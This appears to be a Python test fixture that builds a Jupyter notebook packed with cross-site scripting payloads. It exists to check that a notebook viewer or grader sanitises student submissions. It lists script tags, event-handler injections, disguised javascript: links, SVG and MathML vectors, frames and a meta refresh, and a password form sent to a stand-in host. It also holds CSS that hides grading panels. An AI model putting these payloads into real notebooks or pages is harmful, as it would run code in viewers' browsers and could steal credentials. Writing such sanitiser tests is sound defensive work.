"""What a student could put into a notebook to act in the browser of whoever looks at it."""

import base64
import io

from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from PIL import Image

HACK = "window.hacked=1"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HACK}"><script>{HACK}</script></svg>'
OUTSIDE = "https://evil.example/track.png"


def picture(kind="PNG"):
    made = io.BytesIO()
    Image.new("RGB", (2, 2), "red").save(made, kind)
    return base64.b64encode(made.getvalue()).decode()


MARKUP = {
    "script": f"<script>{HACK}</script>",
    "script in a paragraph": f"text <script>{HACK}</script> text",
    "handler": f'<img src="x" onerror="{HACK}">',
    "handler in a table": f'| a |\n|---|\n| <img src=x onerror="{HACK}"> |',
    "handler in a quote": f'> <div>\n> <img src=x onerror="{HACK}">\n> </div>',
    "handler in a list": f'- a\n  <img src=x onerror="{HACK}">',
    "handler in a heading": f'# <img src=x onerror="{HACK}">',
    "handler after code": f'`<b>` <img src=x onerror="{HACK}"> `<i>`',
    "handler after a formula": f'$a<b$ <img src=x onerror="{HACK}"> $c>d$',
    "handler in a formula": f'$<img src=x onerror="{HACK}">$',
    "handler after an open fence": f'~~~\n```\n~~~\n<img src=x onerror="{HACK}">\n```',
    "frame": f'<iframe srcdoc="<script>parent.{HACK}</script>"></iframe>',
    "frame from outside": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
    "svg": SVG,
    "mathml": f'<math><mtext><img src=x onerror="{HACK}"></mtext></math>',
    "details": f'<details open ontoggle="{HACK}"><summary>x</summary></details>',
    "style": "<style>body, .graded, .panel { display: none !important }</style>",
    "style from outside": '<link rel="stylesheet" href="https://evil.example/a.css">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name="password"></form>',
    "comment": f"<!-- --!><img src=x onerror={HACK}> -->",
    "unclosed": f'<img src=x onerror="{HACK}"',
    "link": f"[click](javascript:{HACK})",
    "link in disguise": f"[click](&#106;ava&#x73;cript&colon;{HACK})",
    "link by reference": f"[click][x]\n\n[x]: javascript:{HACK}",
    "link in brackets": f"<javascript:{HACK}>",
    "link to data": f"[click](data:text/html,<script>{HACK}</script>)",
    "picture from outside": f"![p]({OUTSIDE})",
    "picture from outside by reference": f"![p][x]\n\n[x]: {OUTSIDE}",
    "picture as data": f"![p](data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()})",
    "picture that is missing": "![p](attachment:missing.png)",
    "diagram": f"```mermaid\n</pre><img src=x onerror='{HACK}'>\n```",
    "formula with a link": rf"$\href{{javascript:{HACK}}}{{click}}$",
    "formula with text": rf"$\text{{<img src=x onerror={HACK}>}}$",
}

DATA = {
    "text/html": f"<script>{HACK}</script><img src=x onerror='{HACK}'>",
    "image/svg+xml": SVG,
    "application/javascript": HACK,
    "text/markdown": f"<img src=x onerror='{HACK}'>",
    "text/latex": f"<img src=x onerror='{HACK}'>",
    "text/vnd.mermaid": f"</pre><img src=x onerror='{HACK}'>",
    "application/pdf": "JVBERi0=",
    "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
    "image/png": f'AAAA" onerror="{HACK}',
    "image/jpeg": base64.b64encode(SVG.encode()).decode(),
    "text/plain": f"<img src=x onerror='{HACK}'>",
}

OUTPUTS = {
    **{kind: new_output("display_data", data={kind: data}) for kind, data in DATA.items()},
    "all at once": new_output("execute_result", data=DATA, execution_count=1),
    "picture with a wide width": new_output(
        "display_data",
        data={"image/png": picture()},
        metadata={"image/png": {"width": f"1 onload={HACK}", "alt": f'" onload="{HACK}'}},
    ),
    "page of its own": new_output(
        "display_data",
        data={"text/html": f"<script>parent.{HACK}</script>"},
        metadata={"text/html": {"isolated": True}},
    ),
    "print": new_output("stream", text=f"<script>{HACK}</script>\x1b[31m<b>\x1b[0m"),
    "traceback": new_output(
        "error", ename="<b>", evalue=SVG, traceback=[f"<img src=x onerror='{HACK}'>", SVG]
    ),
    "a lot": new_output("stream", text="x" * 3_000_000),
}


def nasty_notebook():
    """All of it in one notebook, for which nobody has given metadata that helps."""
    cells = [new_markdown_cell(text, id=f"m{n}") for n, text in enumerate(MARKUP.values())]
    cells += [new_raw_cell(text, id=f"r{n}") for n, text in enumerate(MARKUP.values())]
    cells += [
        new_code_cell(f"# </pre>{SVG}", id=f"c{n}", outputs=[output], execution_count=1)
        for n, output in enumerate(OUTPUTS.values())
    ]
    attachments = {
        "a.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
        "b.png": {"image/png": f'x" onerror="{HACK}'},
        "c.png": {"text/html": f"<script>{HACK}</script>"},
    }
    shown = " ".join(f"![{name}](attachment:{name})" for name in attachments)
    cells.append(new_markdown_cell(shown, id="pasted", attachments=attachments))
    return new_notebook(cells=cells, metadata={"widgets": {"x": SVG}})
